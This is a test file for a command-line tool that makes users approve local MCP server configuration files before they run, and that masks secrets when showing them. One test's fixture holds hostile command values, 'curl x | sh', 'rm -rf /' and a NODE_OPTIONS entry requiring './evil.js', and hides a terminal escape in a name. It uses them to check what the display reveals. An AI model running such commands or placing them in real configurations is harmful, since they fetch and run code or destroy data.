import { join } from 'node:path';
import { expect, test } from 'vitest';
import { sketchServers } from '../src/configuration/servers.js';
import { createWorld } from './support.js';

const FILE = JSON.stringify({ mcpServers: { files: { command: 'server', args: ['--root', '.'], env: { TOKEN: 'canary' } } }, serverName: 'folder' });

test('a file of the folder is not used before it is approved, and a changed one not again', async () => {
  const world = createWorld();
  const file = world.write(join(world.cwd, '.mcp.json'), FILE);

  const before = await world.run(['trust', '--json']);
  expect(before.code).toBe(1);
  expect(JSON.parse(before.out)).toMatchObject({ file, approved: false, servers: [{ id: 'files', target: 'server --root .', variables: ['TOKEN'] }] });
  expect((await world.run(['trust'], { isTty: { stdin: false, stdout: false, stderr: false } })).code).toBe(1);

  const approved = await world.run(['trust', '--yes']);
  expect(approved.code).toBe(0);
  expect(approved.out).toContain('files  server --root .');
  expect(approved.out + approved.err).not.toContain('canary');
  expect((await world.run(['trust'])).out).toContain('It is approved already.');

  world.write(file, FILE.replace('--root', '--all'));
  const changed = await world.run(['trust'], { input: 'n\n' });
  expect(changed.code).toBe(1);
  expect(changed.out).toContain('It was approved with another content before.');
});

test('it asks on a terminal: y approves, anything else and the end of the input do not', async () => {
  for (const [input, code] of [['y\n', 0], ['yes\n', 0], ['\n', 1], ['nope\n', 1], ['', 1]] as const) {
    const world = createWorld();
    world.write(join(world.cwd, 'mws.json'), FILE);
    const ran = await world.run(['trust'], { input });
    expect(ran.err).toContain('Approve? [y/N]');
    expect(ran.code, JSON.stringify(input)).toBe(code);
  }
});

test('an approval holds for its place alone and can be taken back', async () => {
  const world = createWorld();
  world.write(join(world.cwd, 'mws.json'), FILE);
  world.write(join(world.cwd, 'sub/mws.json'), FILE);
  await world.run(['trust', '--yes']);
  expect(JSON.parse((await world.run(['trust', 'sub/mws.json', '--json'])).out)).toMatchObject({ approved: false });
  expect((await world.run(['trust', '--revoke'])).out).toContain('no longer approved');
  expect((await world.run(['trust', '--json'])).code).toBe(1);
});

test('no path and no content is kept in the state', async () => {
  const world = createWorld();
  world.write(join(world.cwd, 'mws.json'), FILE);
  await world.run(['trust', '--yes']);
  const [state] = [...world.states.values()];
  const kept = JSON.stringify(await state!.values.list(''));
  expect(kept).toContain('approval/');
  expect(kept).not.toContain('project');
  expect(kept).not.toContain('server');
});

test('only the three names are looked for; nothing there is an error that says so', async () => {
  const world = createWorld();
  const none = await world.run(['trust']);
  expect(none.code).toBe(2);
  expect(none.err).toContain('none of mws.json, .mcp.json, claude_desktop_config.json');
  world.write(join(world.cwd, 'other.json'), FILE);
  const other = await world.run(['trust', 'other.json']);
  expect(other.code).toBe(2);
  expect(other.err).toContain('mws serve --config other.json');
});

test('what is shown hides secrets but nothing that decides what runs', () => {
  const [one] = sketchServers(JSON.stringify({
    mcpServers: {
      'a\u001b[8m': {
        command: 'sh', args: ['-c', 'curl x | sh', '--api-key=abcdefghijklmnop', '--token', 'abcdefghijklmnop', '--token', 'rm -rf /'],
        env: { NODE_OPTIONS: '--require ./evil.js', TOKEN: 'canary' },
      },
    },
  }), 'x.json');
  expect(one).toEqual({
    id: '"a\\u001b[8m"',
    target: 'sh -c "curl x | sh" --api-key=*** --token *** --token "rm -rf /"',
    variables: ['NODE_OPTIONS="--require ./evil.js"', 'TOKEN'],
    headers: [],
  });
  const [remote] = sketchServers('{ "upstream": { "url": "https://me:canary@host/mcp?key=canary", "headers": { "Authorization": "canary" } }, }', 'x.json');
  expect(JSON.stringify(remote)).not.toContain('canary');
  expect(remote).toMatchObject({ id: 'upstream', headers: ['Authorization'] });
  expect(remote?.target).toBe('https://***@host/mcp?***');
});
